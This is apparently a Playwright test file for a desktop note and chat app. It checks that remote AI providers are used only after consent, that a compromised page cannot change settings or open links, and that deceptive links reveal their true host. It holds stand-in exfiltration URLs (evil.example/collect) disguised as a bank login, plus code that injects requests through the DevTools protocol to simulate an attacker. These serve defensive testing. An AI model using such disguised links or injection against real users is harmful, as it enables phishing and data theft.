import type { Page } from '@playwright/test';
import { sourceRef } from '../../../shared/domain/ids';
import { startFakeProvider } from '../../../electron/testing/fake-provider/fake-provider';
import { answers, ask } from '../../screens/chat';
import { openScreen, openSettings } from '../../screens/frame';
import { countConsentPages, consentPage } from '../../screens/consent';
import { importDialog, setProvider } from '../../screens/settings';
import { noteText, openNote } from '../../screens/vault';
import { findSeriousProblems } from '../../support/accessibility';
import { expect, test } from '../../support/app-test';
import { startRequestRecorder } from '../../support/request-recorder';
import { startFakeLinkOpener } from '../../support/fake-link-opener';
import { takeScreenshot } from '../../support/screenshots';
import { needs } from '../../support/tags';

const BANK = 'https://my-bank.example/login';
const EVIL = 'https://evil.example/collect?who=me';
const LINK = `[${BANK}](${EVIL})`;

const rail = (page: Page) => page.getByRole('navigation', { name: 'Screens' });

/** A compromised page would send a request of its own, without a click. */
async function sendFromPage(page: Page, route: string, data: unknown): Promise<void> {
  const session = await page.context().newCDPSession(page);
  const request = JSON.stringify(
    JSON.stringify({ type: 'request', id: 900_000_000 + Math.floor(Math.random() * 1e6), route, data }),
  );
  await session.send('Runtime.evaluate', { expression: `engramHost.send(${request})`, userGesture: false });
  await session.detach();
}

/** The driver's own evaluations count as clicks, so the request bypasses it. */
async function waitUntilClicksAreOld(page: Page): Promise<void> {
  const session = await page.context().newCDPSession(page);
  await expect
    .poll(
      async () =>
        (
          await session.send('Runtime.evaluate', {
            expression: 'navigator.userActivation.isActive',
            userGesture: false,
          })
        ).result.value,
    )
    .toBe(false);
  await session.detach();
}

test(
  'choosing “A server” changes no setting, sends nothing and contacts no host before confirmation',
  needs('chromium shell', 'what main fetches is heard in this process'),
  async ({ fileApp: app }) => {
    const canary = await startRequestRecorder();
    try {
      const { page } = app;
      await openScreen(page, 'Settings');
      await page.getByRole('radio', { name: /^A server/ }).click();
      // Nothing is chosen by itself.
      await expect(page.getByLabel('Provider')).toHaveValue('');
      await takeScreenshot(page, 'outgoing-01-chosen');
      await page.getByLabel('Provider').selectOption('openai');
      await expect(page.getByText('Not in use yet. The offline engine answers until you confirm.')).toBeVisible();
      await expect(page.getByLabel('Base URL')).toHaveValue('https://api.openai.com/v1');
      await page.getByLabel('Chat model').fill('gpt-x');
      await expect(rail(page)).toContainText('nothing leaves this machine');
      await openSettings(page, 'Privacy');
      await expect(page.getByText('Nothing. The offline engine answers.')).toBeVisible();
      await openScreen(page, 'Chat');
      await ask(page, 'We bought three bags of lime.');
      await openScreen(page, 'Health');
      await openScreen(page, 'Settings');
      // The typed text is still there and still unsent.
      await page.getByRole('radio', { name: /^A server/ }).click();
      await expect(page.getByLabel('Chat model')).toHaveValue('gpt-x');
      expect((await app.call('settings.get', null)).settings).toMatchObject({
        engine: 'offline',
        provider: { baseUrl: '' },
      });
      expect((await app.call('app.status', null)).engine).toMatchObject({ isOffline: true, sentTo: null });
      expect(canary.requests()).toEqual([]);
      expect(app.foreignRequests()).toEqual([]);

      // The positive control: a click on "Find local models" is recorded.
      await page.getByRole('button', { name: 'Find local models' }).click();
      await expect.poll(() => canary.requests().length).toBeGreaterThan(0);
    } finally {
      await canary.stop();
    }
  },
);

test(
  'a server is used only after the person accepts main’s question; Esc and Enter decline',
  needs('chromium shell', 'the question is a page of its own, with keys and a look; under Electron it is the system’s'),
  async ({ fileApp: app, provider }) => {
    const { page } = app;
    const fill = async (baseUrl: string) => {
      await page.getByLabel('Base URL').fill(baseUrl);
      await page.getByLabel('Chat model').fill('fake-chat');
      await page.getByRole('button', { name: 'Use this model…' }).click();
    };
    await openScreen(page, 'Settings');
    await page.getByRole('radio', { name: /^A server/ }).click();
    await page.getByLabel('Provider').selectOption('custom');
    await fill('https://api.example.com/v1');
    const asked = await consentPage(page);
    await expect(asked.getByRole('button', { name: 'Cancel' })).toBeFocused();
    await expect(asked.getByRole('alertdialog')).toContainText(
      'Send your questions and the notes used for them to this server?',
    );
    await expect(asked.getByRole('alertdialog')).toContainText('api.example.com');
    await takeScreenshot(asked, 'outgoing-02-question-light');
    await asked.emulateMedia({ colorScheme: 'dark' });
    await takeScreenshot(asked, 'outgoing-03-question-dark');
    expect(await findSeriousProblems(asked)).toEqual([]);
    await asked.keyboard.press('Escape').catch(() => {});
    await expect(page.getByText('Not confirmed: nothing was changed.')).toBeVisible();
    await expect(rail(page)).toContainText('nothing leaves this machine');

    await page.getByRole('button', { name: 'Use this model…' }).click();
    await (await consentPage(page)).keyboard.press('Enter').catch(() => {});
    await expect.poll(() => countConsentPages(page)).toBe(0);
    expect((await app.call('settings.get', null)).settings.engine).toBe('offline');

    await page.getByRole('button', { name: 'Use this model…' }).click();
    const again = await consentPage(page);
    await expect(again.getByRole('button', { name: 'Use this server' })).toBeEnabled();
    await again.keyboard.press('Tab');
    await again.keyboard.press('Enter').catch(() => {});
    await expect(rail(page)).toContainText('text goes to api.example.com');
    await takeScreenshot(page, 'outgoing-04-in-use');

    // Another address is another question; until it is answered the previous one stays.
    await fill(provider.url);
    expect(await app.answerConsent('no')).toContain(`127.0.0.1:${provider.port}`);
    expect((await app.call('settings.get', null)).settings.provider.baseUrl).toBe('https://api.example.com/v1');
    await page.getByRole('button', { name: 'Use this model…' }).click();
    await app.answerConsent('yes');
    await expect(rail(page)).toContainText('nothing leaves this machine');
    await openScreen(page, 'Chat');
    await expect(await ask(page, 'Where do we fly?')).toContainText('it depends on what you plan');
  },
);

test(
  'a compromised page can neither change the model’s address, nor open a link, nor answer for the person',
  needs(
    ['chromium shell', 'posix'],
    'the page’s requests are made up past the driver, and the program that opens links is replaced',
  ),
  async ({ providerApp: app, provider }) => {
    const thief = await startFakeProvider();
    const opener = await startFakeLinkOpener();
    try {
      const { page } = app;
      const before = (await app.call('settings.get', null)).settings;
      const stolen = {
        preset: 'custom',
        baseUrl: thief.url,
        chatModel: 'fake-chat',
        smallModel: '',
        embeddingModel: '',
      };
      await sendFromPage(page, 'settings.save', { engine: 'provider', provider: stolen });
      await sendFromPage(page, 'settings.save', { provider: stolen });
      await sendFromPage(page, 'settings.setKey', { key: 'x', remember: false });
      expect(countConsentPages(page)).toBe(0);
      // One question, however often it is requested; it stays open whatever the page does.
      for (let turn = 0; turn < 5; turn += 1)
        await sendFromPage(page, turn % 2 === 0 ? 'settings.useProvider' : 'models.test', {
          provider: stolen,
          key: null,
        });
      const asked = await consentPage(page);
      await page.evaluate(() => {
        window.open('https://question.internal/');
        document.body.click();
        window.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter' }));
      });
      expect(countConsentPages(page)).toBe(1);
      await asked.keyboard.press('Escape').catch(() => {});
      await expect.poll(() => countConsentPages(page)).toBe(0);
      expect((await app.call('settings.get', null)).settings).toEqual(before);

      const note = await app.call('notes.create', { title: 'Links', body: LINK, category: 'fact' });
      await waitUntilClicksAreOld(page);
      const from = sourceRef('note', note.id);
      await expect(app.call('app.openAddress', { url: EVIL, label: '', from })).rejects.toMatchObject({
        code: 'not-allowed',
        message: expect.stringContaining('on a click only'),
      });
      await page.mouse.click(700, 5);
      await expect(
        app.call('app.openAddress', { url: 'https://evil.example/?q=the+whole+note', label: '', from }),
      ).rejects.toMatchObject({
        code: 'not-allowed',
        message: expect.stringContaining('does not stand in the stored text'),
      });
      await ask(page, 'Where do we fly?');
      expect(countConsentPages(page)).toBe(0);
      expect(await opener.opened()).toEqual([]);
      expect(thief.requests).toEqual([]);
      expect(provider.requests.length).toBeGreaterThan(0);
    } finally {
      await opener.stop();
      await thief.stop();
    }
  },
);

test.describe('a link', () => {
  test(
    'in an answer, a document or a note shows its real host and opens only after confirmation',
    needs(
      ['chromium shell', 'posix'],
      'the question is a page of its own, and the program that opens links is replaced in this process',
    ),
    async ({ app, provider }) => {
      const opener = await startFakeLinkOpener();
      try {
        const { page } = app;
        await setProvider(app, { baseUrl: provider.url, chatModel: 'fake-chat' });
        provider.setAnswer(`Look at ${LINK}.`);
        await openScreen(page, 'Chat');
        await ask(page, 'Say something');
        await answers(page).last().getByRole('link', { name: BANK }).click();
        const asked = await consentPage(page);
        await expect(asked.getByRole('alertdialog')).toContainText(
          'The text says “my-bank.example”, but the link goes to evil.example.',
        );
        await expect(asked.locator('#subject')).toHaveText('evil.example');
        await takeScreenshot(asked, 'outgoing-05-link-light');
        await asked.emulateMedia({ colorScheme: 'dark' });
        await takeScreenshot(asked, 'outgoing-06-link-dark');
        expect(await findSeriousProblems(asked)).toEqual([]);
        await app.answerConsent('no');
        expect(await opener.opened()).toEqual([]);

        await app.call('notes.create', {
          title: 'A note with a link',
          body: `See [the bank](${EVIL}) there.`,
          category: 'fact',
        });
        await openNote(page, 'A note with a link');
        await noteText(page)
          .getByText('the bank')
          .click({ modifiers: ['Control'] });
        expect(await app.answerConsent('yes')).toContain('evil.example');
        await expect.poll(() => opener.opened()).toEqual([EVIL]);

        await openSettings(page, 'Data');
        await page.getByRole('button', { name: 'Import…' }).click();
        const dialog = importDialog(page);
        await dialog
          .getByLabel('Files to import')
          .setInputFiles([
            { name: 'leaflet.md', mimeType: 'text/markdown', buffer: Buffer.from(`# Leaflet\n\nSign in: ${LINK}\n`) },
          ]);
        await dialog.getByRole('button', { name: 'Import', exact: true }).click();
        await dialog.getByRole('button', { name: 'Done' }).click();
        await openScreen(page, 'Vault');
        await page.getByRole('searchbox', { name: 'Filter by text' }).fill('');
        await page.getByLabel('Show', { exact: true }).selectOption('resources');
        await page
          .getByRole('listbox', { name: 'Vault' })
          .getByRole('option', { name: /^leaflet/i })
          .click();
        await page.getByRole('link', { name: BANK }).click();
        expect(await app.answerConsent('no')).toContain('but the link goes to evil.example');
        expect(await opener.opened()).toEqual([EVIL]);
      } finally {
        await opener.stop();
      }
    },
  );
});
